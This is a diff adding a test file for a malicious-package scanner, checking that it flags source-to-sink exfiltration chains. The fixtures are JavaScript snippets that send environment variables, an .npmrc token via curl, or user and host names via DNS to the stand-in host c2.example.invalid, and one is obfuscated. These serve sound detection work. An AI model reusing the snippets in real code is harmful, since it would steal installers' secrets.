@@ -1,0 +1,111 @@
+"""Behaviour chains: source -> (transform) -> sink in one file, plain and obfuscated (issue 13 A)."""
+
+from __future__ import annotations
+
+import pytest
+
+from chainwatch.analysis.chains import find_chains
+from chainwatch.analysis.engine import Engine
+from chainwatch.analysis.rules import load_rules
+from chainwatch.model import Level, PackageFile, PackageRef, Severity
+from chainwatch.scan import Loaded, Scanner, scan_snippet_files
+from tests.helpers import manifest
+
+ENGINE = Engine(load_rules())
+SCANNER = Scanner(None, workers=1)
+
+ENV_EXFIL = """const https = require('https');
+const data = JSON.stringify(process.env);
+const body = Buffer.from(data).toString('base64');
+function send(payload) {
+  const req = https.request({ hostname: 'c2.example.invalid', method: 'POST' });
+  req.write(payload);
+  req.end();
+}
+send(body);
+"""
+# the same behaviour with the names hidden: computed access, concatenation, a string table
+ENV_EXFIL_OBFUSCATED = """const _t = ['aHR0cHM=', 'ZW52'];
+const h = require(Buffer.from(_t[0], 'base64').toString());
+const data = JSON['strin' + 'gify'](process[atob(_t[1])]);
+const body = Buffer.from(data).toString('base64');
+function send(payload) {
+  const req = h['req' + 'uest']({ hostname: 'c2.example.invalid', method: 'POST' });
+  req['wr' + 'ite'](payload);
+  req.end();
+}
+send(body);
+"""
+NPMRC_EXEC = """const fs = require('fs'), os = require('os');
+const { exec } = require('child_process');
+fs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, text) => {
+  exec('curl -d ' + text + ' https://c2.example.invalid');
+});
+"""
+HOST_DNS = """const os = require('os');
+const dns = require('dns');
+const id = os.userInfo().username + '.' + os.hostname();
+dns.lookup(id + '.c2.example.invalid', () => {});
+"""
+
+
+def rules(src: str) -> dict[str, list[str]]:
+    out: dict[str, list[str]] = {}
+    for f in ENGINE.scan_file(PackageFile("index.js", src.encode())):
+        out.setdefault(f.rule, []).append(f.message)
+    return out
+
+
+@pytest.mark.parametrize(("src", "rule"), [
+    (ENV_EXFIL, "CW-CHAIN-EXFIL"), (ENV_EXFIL_OBFUSCATED, "CW-CHAIN-EXFIL"),
+    (NPMRC_EXEC, "CW-CHAIN-EXFIL"), (HOST_DNS, "CW-CHAIN-FINGERPRINT"),
+])
+def test_full_chains_are_found(src: str, rule: str) -> None:
+    assert rule in rules(src)
+
+
+def test_the_evidence_lists_source_transform_and_sink_lines() -> None:
+    (chain,) = find_chains(ENV_EXFIL.encode())
+    assert (chain.source.line, chain.transform, chain.sink_line) == (2, ("stringify", 2), 6)
+    message = rules(ENV_EXFIL)["CW-CHAIN-EXFIL"][0]
+    assert message.count("(line 2)") == 2 and "(line 6)" in message
+
+
+def test_plain_and_obfuscated_give_the_same_chain() -> None:
+    plain, obfuscated = rules(ENV_EXFIL), rules(ENV_EXFIL_OBFUSCATED)
+    assert "CW-CHAIN-EXFIL" in plain and "CW-CHAIN-EXFIL" in obfuscated
+    assert "[after normalisation]" in obfuscated["CW-CHAIN-EXFIL"][0]
+
+
+@pytest.mark.parametrize("src", [
+    # parts alone: a source without a sink, a sink without a source
+    "const data = JSON.stringify(process.env);\nconsole.log(data.length);\n",
+    "const https = require('https');\nhttps.get('https://api.example.invalid/v1');\n",
+    # the same names in different functions are different variables
+    "const https = require('https');\nfunction a() { const d = process.env.NPM_TOKEN; "
+    "return !!d; }\nfunction b() { let d = 'ok'; https.get('https://x.example.invalid/' + d); }\n",
+    # a child process given the environment is not a leak
+    "const cp = require('child_process');\ncp.spawn('node', ['x.js'], "
+    "{ env: Object.assign({}, process.env, { A: '1' }) });\n",
+])
+def test_parts_alone_are_no_chain(src: str) -> None:
+    assert not any(r.startswith("CW-CHAIN-") for r in rules(src))
+
+
+def test_a_chain_makes_the_verdict_malicious_and_its_parts_do_not() -> None:
+    def verdict(code: str) -> Level:
+        files = {"package.json": manifest(version="1.0.1"), "index.js": code}
+        v = SCANNER.analyze(Loaded(PackageRef("left-padder", "1.0.1"),
+                                   scan_snippet_files(files)), None)
+        return v.level
+
+    assert verdict(HOST_DNS) is Level.MALICIOUS
+    assert verdict(ENV_EXFIL_OBFUSCATED) is Level.MALICIOUS
+    assert verdict("const os = require('os');\nmodule.exports = () => os.hostname();\n") \
+        is Level.BENIGN
+
+
+def test_chain_rules_are_strong() -> None:
+    by_id = {r.id: r for r in ENGINE.rules}
+    assert by_id["CW-CHAIN-EXFIL"].severity is Severity.CRITICAL
+    assert by_id["CW-CHAIN-FINGERPRINT"].severity is Severity.HIGH
